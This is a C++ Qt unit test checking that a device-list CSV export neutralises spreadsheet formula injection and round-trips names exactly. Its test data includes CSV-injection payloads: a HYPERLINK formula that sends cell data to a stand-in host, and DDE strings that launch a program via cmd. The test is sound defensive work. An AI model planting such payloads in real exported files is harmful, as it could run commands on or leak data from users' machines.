// The device file on its own, in memory: names a spreadsheet would run as formulas go out inert and come back
// exact, and an import obeys the bounds live data does.
#include "TestHome.h"
#include "devicefile/DeviceExport.h"
#include "platform/Clock.h"

#include <QRegularExpression>
#include <QTest>

namespace {
const QDateTime kNow(QDate(2026, 12, 6), QTime(12, 0), Qt::UTC);
const QString kMac = QStringLiteral("02-AA-00-00-00-0D");
} // namespace

class TestDeviceExport final : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase() { pinTestEnvironment(); }

    void formulasGoOutInert_data()
    {
        QTest::addColumn<QString>("name");
        QTest::newRow("hyperlink") << QStringLiteral("=HYPERLINK(\"http://x.example/?\"&A1,\"hi\")");
        QTest::newRow("DDE") << QStringLiteral("+cmd|' /C calc'!A0");
        QTest::newRow("minus") << QStringLiteral("-2+3+cmd|' /C calc'!A0");
        QTest::newRow("at") << QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0");
        QTest::newRow("apostrophe of its own") << QStringLiteral("'=already guarded");
        QTest::newRow("plain") << QStringLiteral("Printer, upstairs");
    }

    void formulasGoOutInert()
    {
        QFETCH(QString, name);
        DeviceTable table;
        table.DeviceCount = 1;
        table.ResizeDeviceTable(1);
        table[0] = DeviceRecord::empty();
        table[0].MacAddress = kMac;
        table[0].FriendlyName = name;
        table[0].HostName = name;
        const QString csv = DeviceExport::exportText(table, DeviceExport::Format::Csv);
        static const QRegularExpression live(QStringLiteral("(^|,)\"?[=+\\-@\\t\\r]"));
        QVERIFY2(!csv.section(QLatin1Char('\n'), 1).contains(live), qPrintable(csv));
        const DeviceExport::Parsed back = DeviceExport::parse(csv.toUtf8());
        QVERIFY2(back.fault.isEmpty(), qPrintable(back.fault));
        QCOMPARE(back.devices.value(0).record.FriendlyName, name);
        QCOMPARE(back.devices.value(0).record.HostName, name);
    }
};

KW_TEST_GUILESS_MAIN(TestDeviceExport)
#include "tst_deviceexport.moc"
